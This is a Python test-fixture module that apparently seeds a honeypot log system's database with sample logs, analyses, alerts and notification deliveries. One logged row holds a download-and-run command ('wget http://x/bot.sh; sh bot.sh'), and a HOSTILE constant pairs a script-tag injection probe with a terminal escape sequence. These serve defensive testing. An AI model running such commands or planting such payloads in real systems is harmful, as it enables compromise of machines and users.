"""Known rows of the operator API's tables for tests: logs, analyses, alerts, deliveries."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

from sqlalchemy import Engine, insert

from rbr_runtime.db.tables import alerts, log_analysis, logs, notifications, notifier_deliveries

T0 = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)
HOSTILE = "<script>alert(1)</script>\x1b[31m"


def log_row(number: int, **fields: Any) -> dict[str, Any]:
    """Returns a `logs` row stored `number` minutes after T0 (fields override)."""
    row: dict[str, Any] = {
        "name": "rustbucket-a",
        "ip_address": "203.0.113.7",
        "log": f"record {number}",
        "log_size": 10,
        "created_at": T0 + timedelta(minutes=number),
        "log_format": "cowrie",
        "event_type": "login_failed",
        "source_ip": "198.51.100.1",
        "username": "root",
        "command": None,
        "source_key": "raw/a",
        "source_sha256": "ab" * 32,
        "record_no": number,
    }
    row.update(fields)
    return row


def put_logs(engine: Engine) -> None:
    """Ten records of bucket a (one a command, one hostile), five of bucket b."""
    rows = [log_row(n) for n in range(10)]
    rows[3].update(event_type="command", command="wget http://x/bot.sh; sh bot.sh", username=None)
    rows[4].update(log=f"hostile {HOSTILE}", source_ip="2001:db8::1")
    rows += [
        log_row(n, name="rustbucket-b", source_sha256="cd" * 32, username="admin")
        for n in range(10, 15)
    ]
    with engine.begin() as connection:
        connection.execute(insert(logs), rows)


def put_analyses(engine: Engine) -> None:
    """Three analyses: two of bucket a (low, high), one of bucket b (high)."""
    rows = [
        ("rustbucket-a", 0, "low", [], []),
        ("rustbucket-a", 4, "high", [{"title": "Downloader"}], [{"type": "ip", "value": "x"}]),
        ("rustbucket-b", 4, "high", [{"title": "Brute force"}], []),
    ]
    with engine.begin() as connection:
        connection.execute(
            insert(log_analysis),
            [
                {
                    "name": name,
                    "ip_address": "203.0.113.7",
                    "log_analysis": f"Analysis of {name}: {HOSTILE}",
                    "created_at": T0 + timedelta(hours=hours + 4),
                    "window_start": T0 + timedelta(hours=hours),
                    "window_end": T0 + timedelta(hours=hours + 4),
                    "analyser": "rules",
                    "severity": severity,
                    "findings": findings,
                    "iocs": iocs,
                    "recommended_actions": ["Block 198.51.100.1"],
                    "log_rows": 10,
                }
                for name, hours, severity, findings, iocs in rows
            ],
        )


def alert_row(alert_id: str, **fields: Any) -> dict[str, Any]:
    """Returns an `alerts` row firing at T0 (fields override)."""
    row: dict[str, Any] = {
        "alert_id": alert_id,
        "dedupe_key": f"bucket_unresponsive:{alert_id}",
        "type": "bucket_unresponsive",
        "severity": "high",
        "state": "firing",
        "bucket": "rustbucket-a",
        "title": f"Bucket unresponsive ({alert_id})",
        "detail": f"The whole text of {alert_id}: no answer for 15 minutes.",
        "source": "/rbr/poller",
        "context": {"failures": 3},
        "fired_at": T0,
        "last_seen_at": T0,
        "repeats": 0,
        "last_event_id": f"event-{alert_id}",
        "updated_at": T0,
    }
    row.update(fields)
    return row


def put_alerts(engine: Engine) -> None:
    """Alert a1 firing with deliveries, a2 resolved, a3 firing about bucket b."""
    with engine.begin() as connection:
        connection.execute(
            insert(alerts),
            [
                alert_row("a1", repeats=2, last_seen_at=T0 + timedelta(minutes=10)),
                alert_row(
                    "a2",
                    state="resolved",
                    severity="low",
                    fired_at=T0 - timedelta(days=1),
                    resolved_at=T0 - timedelta(hours=20),
                    resolved_by="event",
                ),
                alert_row("a3", bucket="rustbucket-b", type="analysis_finding"),
            ],
        )
        connection.execute(
            insert(notifier_deliveries),
            [
                {
                    "alert_id": "a1",
                    "channel": channel,
                    "kind": "trigger",
                    "state": state,
                    "attempts": attempts,
                    "detail": detail,
                    "created_at": T0,
                    "updated_at": T0 + timedelta(seconds=5),
                }
                for channel, state, attempts, detail in (
                    ("slack-ops", "sent", 1, None),
                    ("pager", "failed", 3, "HTTP 500"),
                )
            ],
        )
        connection.execute(
            insert(notifications),
            [
                {
                    "alert_id": "a1",
                    "dedupe_key": "bucket_unresponsive:a1",
                    "channel": "pager",
                    "kind": "trigger",
                    "attempt": attempt,
                    "status": "failed" if attempt == 3 else "retrying",
                    "http_status": 500,
                    "error": "server error",
                    "created_at": T0 + timedelta(seconds=attempt),
                }
                for attempt in (1, 2, 3)
            ],
        )
